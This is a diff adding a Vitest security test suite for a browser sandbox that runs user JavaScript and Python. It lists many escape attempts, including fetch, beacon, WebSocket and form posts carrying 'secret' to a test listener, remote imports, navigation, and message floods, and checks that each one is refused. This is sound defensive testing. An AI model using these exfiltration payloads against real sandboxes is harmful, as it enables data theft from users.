@@ -1,0 +1,158 @@
+/** Programs a peer might write to get out. Each attempt prints what it got; nothing may reach the listener or the app. */
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { type Bed, openBed, openListener } from '../test-bed/test-bed.ts';
+
+let bed: Bed;
+let listener: Awaited<ReturnType<typeof openListener>>;
+beforeAll(async () => {
+  [bed, listener] = await Promise.all([openBed(), openListener()]);
+}, 60_000);
+afterAll(async () => {
+  await bed?.close();
+  await listener?.close();
+});
+
+/** Attempts in plain JavaScript, name → function body; each resolves with what it reached or throws. `where` is the enemy's server. */
+const FROM_WORKER: Readonly<Record<string, string>> = {
+  indexedDB:
+    "return new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('opened'); open.onerror = () => no(open.error) })",
+  localStorage: 'return localStorage.length',
+  caches: 'return caches.keys()',
+  opfs: 'return navigator.storage.getDirectory()',
+  cookies: 'return cookieStore.getAll()',
+  document: 'return document.title',
+  fetch: "return realm.fetch(where + '/fetch')",
+  fetchApp: "return realm.fetch('/page.js')",
+  fetchNoCors:
+    "return realm.fetch(where + '/no-cors', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
+  xhr: "const request = new XMLHttpRequest(); request.open('GET', where + '/xhr', false); request.send(); return request.status",
+  webSocket:
+    "return new Promise((yes, no) => { const socket = new WebSocket(where.replace('http', 'ws')); socket.onopen = () => yes('open'); socket.onerror = no })",
+  eventSource:
+    "return new Promise((yes, no) => { const source = new EventSource(where + '/events'); source.onopen = () => yes('open'); source.onerror = no })",
+  webTransport: "return new WebTransport(where.replace('http', 'https')).ready",
+  beacon: "if (!navigator.sendBeacon(where + '/beacon', 'secret')) throw new Error('refused')",
+  remoteImport: "return realm.importModule(where + '/module.js')",
+  importScripts: "return realm.importScripts(where + '/script.js')",
+  nestedWorker:
+    "return new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${where}/nested').then(() => postMessage('reached'), () => postMessage(''))`]))); worker.onmessage = (event) => event.data ? yes(event.data) : no(new Error('refused')); worker.onerror = no })",
+  remoteWorker:
+    "return new Promise((yes, no) => { const worker = new Worker(where + '/worker.js'); worker.onmessage = yes; worker.onerror = no })",
+  image: 'return new Image()',
+  rtc: 'return new RTCPeerConnection()',
+  serviceWorker: "return navigator.serviceWorker.register(where + '/sw.js')",
+  location: "location.href = where + '/location'; return new Promise((_, no) => setTimeout(no, 100))",
+};
+
+const attempts = (bodies: Readonly<Record<string, string>>, where: string): string => `
+const where = ${JSON.stringify(where)};
+const results = {};
+await Promise.all(Object.entries(${JSON.stringify(bodies)}).map(async ([name, body]) => {
+  const attempt = (async () => new Function('where', 'realm', body)(where, realm))();
+  const late = new Promise((_, no) => realm.setTimeout(() => no(new Error('no answer')), 1500));
+  results[name] = await Promise.race([attempt, late]).then((got) => 'REACHED ' + String(got), () => 'refused');
+}));`;
+
+const expectAllRefused = (results: unknown, bodies: object): void => {
+  expect(results).toEqual(Object.fromEntries(Object.keys(bodies).map((name) => [name, 'refused'])));
+};
+
+test('JavaScript in the worker reaches neither storage nor network', async () => {
+  const realm = `const ask = Object.getPrototypeOf(async function () {}).constructor;
+const realm = { fetch: (...a) => Reflect.apply(Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch ?? WorkerGlobalScope.prototype.fetch, self, a),
+  setTimeout, importModule: new Function('url', 'return import(url)'), importScripts: (...a) => self.importScripts(...a) };
+delete self.fetch;
+if (typeof self.fetch === 'function') realm.fetch = (...a) => self.fetch(...a);`;
+  const source = `${realm}${attempts(FROM_WORKER, listener.origin)}\nconsole.log(JSON.stringify(results)); process.exit(0);`;
+  const report = await bed.run({ entry: 'main.mjs', files: { 'main.mjs': source } });
+  expect(report.stderr).toBe('');
+  expectAllRefused(JSON.parse(report.stdout), FROM_WORKER);
+  expect([listener.heard, listener.connections()]).toEqual([[], 0]);
+}, 60_000);
+
+test('Python reaches no further through its js module', async () => {
+  const script = `(async () => { const realm = { fetch: self.fetch, setTimeout, importModule: (url) => import(url), importScripts: (...a) => self.importScripts(...a) };
+${attempts(FROM_WORKER, listener.origin)} return JSON.stringify(results); })()`;
+  const source = `import asyncio, js\nasync def main():\n  print(await js.eval(${JSON.stringify(script)}))\nasyncio.run(main())
+import pyodide_js
+for attempt in (lambda: pyodide_js.loadPackage("${listener.origin}/x.whl"), lambda: js.importScripts("${listener.origin}/x.js")):
+  try: attempt()
+  except Exception: pass`;
+  const report = await bed.run({ entry: 'main.py', files: { 'main.py': source } });
+  expectAllRefused(JSON.parse(report.stdout.split('\n')[0] ?? ''), FROM_WORKER);
+  expect([listener.heard, listener.connections()]).toEqual([[], 0]);
+}, 60_000);
+
+test('messages a program forges hurt only its own run', async () => {
+  const source = `
+for (const message of [null, 1, 'x', {}, { kind: 'booted' }, { kind: 'batch', run: 1, end: { kind: 'failed' } }, { kind: 'output', bytes: 'no' }, { kind: 'want' }, { kind: 'unwant' }, { kind: 'pong' }]) self.postMessage(message);
+for (let i = 0; i < 20000; i++) self.postMessage({ kind: i % 2 ? 'want' : 'unwant', by: 'message' });
+self.postMessage({ kind: 'exit', code: 7.5 });
+for (;;);`;
+  const report = await bed.run({ entry: 'main.js', files: { 'main.js': source } });
+  expect(report.end).toEqual({ kind: 'exit', code: 1 });
+  const next = await bed.run({ entry: 'main.js', files: { 'main.js': 'console.log("alive")' } });
+  expect(next.stdout).toBe('alive\n');
+}, 60_000);
+
+const FROM_FRAME: Readonly<Record<string, string>> = {
+  ...FROM_WORKER,
+  cookies: 'document.cookie = "a=1"; return document.cookie',
+  document: 'return parent.document.title',
+  parentBed: 'return parent.bed.runtimes',
+  top: "top.location = where + '/top'; throw new Error(top.location.href)",
+  popup: "if (!window.open(where + '/popup')) throw new Error('refused')",
+  image:
+    "return new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = where + '/image' })",
+  form: "const form = document.createElement('form'); form.action = where + '/form'; document.body.append(form); form.submit(); throw new Error('nothing seen')",
+  nestedFrame:
+    "return new Promise((yes, no) => { const frame = document.createElement('iframe'); frame.src = where + '/frame'; frame.onload = () => no(); document.body.append(frame) })",
+};
+
+/**
+ * Browsers connect ahead to where a blocked navigation would have led, without sending anything; from a worker not even that.
+ * A frame whose main thread is the enemy's, which no program reaches, is the second wall.
+ */
+const hostile = (body: string): string => `self.startBroker = async (port) => {
+  let ticket;
+  const asked = new Promise((yes) => (port.onmessage = ({ data }) => data.kind === 'run' && yes((ticket = data.ticket))));
+  const send = (output, end) => port.postMessage({ kind: 'batch', run: 1, ticket, started: true, output, inputWanted: false, end });
+  await asked;
+  ${body}
+};`;
+
+test('even the frame itself reaches neither the app nor the network', async () => {
+  // A beacon answers true before policy stops it: the listener tells. RTCPeerConnection can be made here, never in a worker.
+  const { rtc: _rtc, location: _location, beacon, ...bodies } = FROM_FRAME;
+  const { output } = await bed.hostileFrame(
+    hostile(`const realm = { fetch: self.fetch.bind(self), setTimeout: setTimeout.bind(self), importModule: (url) => import(url), importScripts: () => { throw 0 } };
+    ${attempts(bodies, listener.origin)}
+    (0, eval)(${JSON.stringify(`(where) => { ${beacon} }`)})(${JSON.stringify(listener.origin)});
+    send([[1, JSON.stringify(results)]], { kind: 'exit', code: 0 });`),
+  );
+  expectAllRefused(JSON.parse(output), bodies);
+  expect(listener.heard).toEqual([]);
+}, 60_000);
+
+test('a frame that navigates itself away is stopped by the policy of the app', async () => {
+  await bed.hostileFrame(hostile(`location.href = ${JSON.stringify(`${listener.origin}/?secret`)};`));
+  expect(listener.heard).toEqual([]);
+}, 60_000);
+
+test.for([
+  ['floods with batches', "for (let i = 0; i < 1e5; i++) send([[1, 'x']]);"],
+  ['sends too much at once', "send([[1, 'x'.repeat(70000)]]);"],
+  [
+    'sends what is no message',
+    "port.postMessage({ kind: 'batch', run: 1, ticket, started: true, output: [[3, 'x']], inputWanted: false });",
+  ],
+  ['answers pings nobody sent', "for (let i = 0; i < 1000; i++) port.postMessage({ kind: 'pong' });"],
+])(
+  'a frame that %s is removed',
+  async ([, body]) => {
+    const result = await bed.hostileFrame(hostile(body ?? ''));
+    expect(result).toMatchObject({ kind: 'failed', broke: true });
+    expect(result.output.length).toBeLessThanOrEqual(1);
+  },
+  60_000,
+);
